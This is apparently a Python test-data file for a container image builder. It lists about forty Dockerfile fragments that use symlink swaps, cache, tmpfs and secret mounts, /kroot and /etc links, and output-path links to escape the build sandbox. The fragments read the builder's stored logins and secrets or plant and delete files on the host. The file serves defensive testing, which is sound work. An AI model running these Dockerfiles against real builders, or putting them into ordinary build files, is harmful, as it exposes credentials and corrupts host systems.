"""Dockerfiles that would have the builder follow their links to its own files. Each is known to have worked, or was thought to."""

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attack:
    """`text` is of one Dockerfile without its FROM; places are in it as {store}, {logins} and so on, and {scripts} is where
    heredocs run from, {top} a directory for outputs that is the image's /opt where there is one root, {scratch} one that is
    not. `alone`: it harms nothing by itself where nothing keeps a RUN from the builder's files. `more` are further arguments of the build, and `again` a second Dockerfile, built after it."""

    name: str
    text: str
    alone: bool = True
    more: tuple[str, ...] = field(default=())
    again: str = ""


ATTACKS = [
    Attack(
        "a cache is replaced by a link to the logins",
        """
RUN --mount=type=cache,id={id},target=/opt/y rm -rf /opt/y; ln -s {logins} /opt/y; ls -ld /opt/y
RUN --mount=type=cache,id={id},target=/opt/z cat /opt/z/value /opt/z/config.json; ls -R /opt/z; cp -r /opt/z /opt/copy; true
RUN --mount=type=cache,id={id},target=/srv,ro cat /srv/value; ls -R /srv; true
""",
    ),
    Attack(
        "a cache at a slot is asked for after it became a link",
        """
RUN --mount=type=cache,id={id},target=/opt/y rm -rf /opt/y; ln -s {secrets} /opt/y; ls -ld /opt/y
RUN --mount=type=cache,id={id},target=/srv,ro cat /srv/value; ls -R /srv; true
""",
    ),
    Attack(
        "the parent of a cache is swapped and what is there becomes the cache",
        """
RUN --mount=type=cache,id={id},target=/opt/y/held mv /opt/y /opt/old; ln -s {outside} /opt/y; ls -ld /opt/y
RUN --mount=type=cache,id={id},target=/opt/z cat /opt/z/inner; ls -R /opt/z; true
""",
    ),
    Attack(
        "a tmpfs makes the store's cache the attacker's",
        """
RUN mkdir -p /opt/y/cache; echo EVIL > /opt/y/cache/planted
RUN --mount=type=tmpfs,target=/opt/y/cache mv /opt/y /opt/old; ln -s {store} /opt/y
""",
    ),
    Attack(
        "a tmpfs deletes the store's images",
        """
RUN mkdir -p /opt/y/images
RUN --mount=type=tmpfs,target=/opt/y/images mv /opt/y /opt/old; ln -s {store} /opt/y
""",
    ),
    Attack("a tmpfs below a link of an earlier RUN", "\nRUN ln -s {store} /opt/y\nRUN --mount=type=tmpfs,target=/opt/y/cache true\n"),
    Attack("a tmpfs below a link of an earlier RUN, at a canary", "\nRUN ln -s {store} /opt/y\nRUN --mount=type=tmpfs,target=/opt/y/held true\n"),
    Attack("a bind below a link of an earlier RUN", "\nRUN ln -s {outside} /opt/y\nRUN --mount=source=data,target=/opt/y/held,rw true\n"),
    Attack("a secret over a file behind a link", "\nRUN ln -s {outside} /opt/y\nRUN --mount=type=secret,id=s,target=/opt/y/value true\n"),
    Attack("a secret over a link to a file", "\nRUN ln -s {outside}/value /opt/y\nRUN --mount=type=secret,id=s,target=/opt/y true\n"),
    Attack("a cache at a link to a directory", "\nRUN ln -s {outside}/held /opt/y\nRUN --mount=type=cache,id={id},target=/opt/y true\n"),
    Attack(
        "a secret's parent is swapped",
        "\nRUN --mount=type=secret,id=s,target=/opt/y/value mv /opt/y /opt/old; ln -s {secrets} /opt/y\n",
    ),
    Attack(
        "a link in a cache leads a mount in it",
        """
RUN --mount=type=cache,id={id},target=/opt/y ln -s {store} /opt/y/in
RUN --mount=type=cache,id={id},target=/opt/y --mount=type=tmpfs,target=/opt/y/in/cache true
""",
    ),
    Attack("HOME is a line of a secret", "\nRUN rm -f /etc/passwd; ln -s {secrets}/value /etc/passwd\nRUN echo $HOME | tee /opt/home\n"),
    Attack(
        "HOME is a line of a secret, by a link above it",
        "\nRUN mkdir /opt/etc; ln -s {secrets}/value /opt/etc/passwd; rm -f /etc/passwd; ln -s /opt/etc/passwd /etc/passwd\nRUN echo $HOME\n",
    ),
    *(
        Attack(
            f"a layer takes the {place} by way of /kroot",
            f"""
RUN rm -f /kroot/usr && ln -s {{{place}}} /kroot/usr; true
RUN echo after > /opt/after
RUN touch /usr/x; true
""",
        )
        for place in ("store", "logins", "outside")
    ),
    Attack(
        "all names in /kroot lead to the logins",
        "\nRUN for name in $(ls /kroot 2> /dev/null); do test -L /kroot/$name && rm /kroot/$name && ln -s {logins} /kroot/$name; done; true\n"
        "RUN echo after > /opt/after\n",
    ),
    Attack(
        "the next stage finds links in /kroot",
        """
RUN for name in usr etc opt srv; do rm -f /kroot/$name; ln -s {outside} /kroot/$name; done; true
FROM {base}
RUN mkdir -p /usr/held && echo planted > /usr/held/planted && echo other > /opt/other
""",
    ),
    Attack(
        "names in the root are renamed",
        "\nRUN mv /opt /srv/opt; mv /usr /srv/usr; ln -s {logins} /usr; ln -s {outside} /opt; mkdir -p /opt; true\nRUN echo after > /tmp/after\n",
        alone=False,
    ),
    Attack(
        "/etc is renamed, and what is lent there is a link",
        "\nRUN mv /etc /old; mkdir /etc; for name in hosts resolv.conf hostname; do ln -sf {outside}/value /etc/$name; done; true\nRUN true\n",
        more=("--add-host", "one.test:10.1.2.3"),
    ),
    Attack("/etc becomes a link to a directory with hosts in it", "\nRUN mv /etc /old; ln -s {outside} /etc\nRUN true\n", more=("--add-host", "one.test:10.1.2.3")),
    Attack("/etc becomes a link without more", "\nRUN mv /etc /old; ln -s {outside} /etc\n"),
    Attack(
        "files in /dev/shm",
        "\nRUN ln -s {outside} /dev/shm/link; mkdir -p /dev/shm/d; ln -s {store} /dev/shm/d/link; true\nRUN test -z \"$(ls /dev/shm)\"\n",
    ),
    Attack(
        "the directory of a heredoc's script becomes a link",
        "\nRUN <<value\n#!/bin/sh\nmv {scripts} {scripts}.old; ln -s {outside} {scripts}; true\nvalue\nRUN true\n",
    ),
    Attack("a WORKDIR behind a link", "\nRUN ln -s {store} /opt/w\nWORKDIR /opt/w/planted\nRUN true\n"),
    Attack("a WORKDIR that is a link", "\nRUN ln -s {store} /opt/w\nWORKDIR /opt/w\nRUN true\n"),
    Attack(
        "COPY --from of a stage's links",
        """
RUN ln -s {logins} /opt/l; ln -s {secrets}/value /opt/f; mkdir /opt/d; ln -s {outside} /opt/d/l
FROM {base}
COPY --from=0 /opt /opt/
COPY --from=0 /opt/d/l /opt/e
""",
    ),
    Attack("COPY --from of a file behind a link", "\nRUN ln -s {logins} /opt/l\nFROM {base}\nCOPY --from=0 /opt/l/value /opt/got\n"),
    Attack("COPY to a place behind a link", "\nRUN ln -s {outside} /opt/l\nCOPY data/file /opt/l/planted\nCOPY data /opt/l/held/\nRUN true\n"),
    Attack(
        "a bind of a stage's link",
        "FROM {base} AS made\nRUN ln -s {logins} /opt/l\nFROM {base}\nRUN --mount=from=made,source=/opt/l,target=/opt/t cat /opt/t/value; ls /opt/t; true\n",
    ),
    Attack(
        "a bind of a file behind a stage's link",
        "FROM {base} AS made\nRUN ln -s {logins} /opt/l\nFROM {base}\nRUN --mount=from=made,source=/opt/l/value,target=/opt/t cat /opt/t; true\n",
    ),
    Attack(
        "a cache that starts from a stage's link",
        "FROM {base} AS made\nRUN mkdir /opt/s; ln -s {logins} /opt/s/l\nFROM {base}\n"
        "RUN --mount=type=cache,id={id},from=made,source=/opt/s/l,target=/opt/t cat /opt/t/value; true\n",
    ),
    Attack(
        "files and links onto the disk, twice",
        "\nRUN ln -s {outside} /opt/held; ln -s {outside}/value /opt/value\nFROM scratch\nCOPY --from=0 /opt /planted\n",
        more=("-o", "type=local,dest={scratch}/out"),
        again="\nRUN mkdir /opt/held && echo EVIL > /opt/held/planted && echo EVIL > /opt/value\nFROM scratch\nCOPY --from=0 /opt /planted\n",
    ),
    Attack(
        "the directory of the output becomes a link",
        "\nRUN rm -rf /opt/out; ln -s {outside} /opt/out; true\nFROM scratch\nCOPY --from=0 /etc/passwd /planted\n",
        more=("-o", "type=local,dest={top}/out"),
    ),
    Attack(
        "the directory of the output becomes a link, and is emptied",
        "\nRUN rm -rf /opt/out; ln -s {outside} /opt/out; true\nFROM scratch\nCOPY data/file /planted\nCOPY --from=0 /opt/nonesuc[h] /x/\n",
        more=("-o", "type=local,dest={top}/out,mode=delete"),
    ),
    Attack(
        "the file of the metadata becomes a link",
        "\nRUN ln -s {outside}/value /opt/metadata; ln -s {outside}/value /opt/iid\n",
        more=("--metadata-file", "{top}/metadata", "--iidfile", "{top}/iid"),
    ),
    Attack(
        "a cache is no directory any more",
        """
RUN --mount=type=cache,id={id},target=/opt/y rm -rf /opt/y; mkfifo /opt/y; true
RUN --mount=type=cache,id={id},target=/opt/y test -d /opt/y && echo kept > /opt/y/kept
RUN --mount=type=cache,id={id},target=/srv,ro ls /srv
""",
    ),
    Attack(
        "a private cache is replaced by a link",
        """
RUN --mount=type=cache,id={id},sharing=private,target=/opt/y rm -rf /opt/y; ln -s {logins} /opt/y; ls -ld /opt/y
RUN --mount=type=cache,id={id},sharing=private,target=/opt/y cat /opt/y/value; ls /opt/y; true
""",
    ),
    Attack(
        "a cache has links to what is beside it in the store",
        """
RUN --mount=type=cache,id={id},target=/opt/y rm -rf /opt/y; ln -s .. /opt/y; true
RUN --mount=type=cache,id={id},target=/opt/z ls /opt/z | grep -c -e tree -e held; true
RUN --mount=type=cache,id={id},target=/srv,ro cat /srv/value; ls /srv; true
""",
    ),
    Attack(
        "what was set aside beside a mount becomes a link",
        """
RUN mkdir -p /opt/y/t && echo own > /opt/y/t/own
RUN --mount=type=tmpfs,target=/opt/y/t for name in /opt/y/.aside*; do rm -rf $name; ln -s {outside} $name; done; true
RUN cat /opt/y/t/value; rm -rf /opt/y/t; true
""",
        alone=False,
    ),
]
